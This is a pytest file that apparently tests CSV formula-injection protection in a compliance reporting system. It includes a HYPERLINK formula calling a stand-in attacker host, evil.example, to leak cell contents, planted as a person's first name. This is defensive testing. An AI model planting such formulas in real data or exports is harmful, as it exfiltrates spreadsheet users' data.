"""CSV exports neutralise cells a spreadsheet would run as formulas (issue 14, finding 6)."""

from __future__ import annotations

import csv
import io

import pytest

from compliance.audit import audit_record
from compliance.csvsafe import safe_cell
from compliance.models import Report
from compliance.reports import report_render, report_request
from compliance.roles import COMPLIANCE_OFFICER
from tests.compliance.test_reports import _period
from tests.factories import PersonFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def test_a_player_named_as_a_formula_does_not_start_a_cell_of_the_audit_extract(make_staff):
    officer = make_staff(COMPLIANCE_OFFICER)
    person = PersonFactory(first_name=FORMULA)
    audit_record(actor=officer, action="test.formula_name", obj=person)
    report = report_request(actor=officer, kind="audit_extract", params=_period(), language="en")
    report_render(report.pk)
    with Report.objects.get(pk=report.pk).csv.open("rb") as f:
        rows = list(csv.reader(io.StringIO(f.read().decode())))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if FORMULA in c] == ["'" + str(person)]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "+358 40 123"])
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-50.00", "+3", "1200", "0.5"])
def test_a_plain_number_stays_a_number(text):
    assert safe_cell(text) == text


def test_other_text_and_numbers_are_left_as_they_are():
    assert (safe_cell("Mäkelä"), safe_cell(-5000)) == ("Mäkelä", -5000)
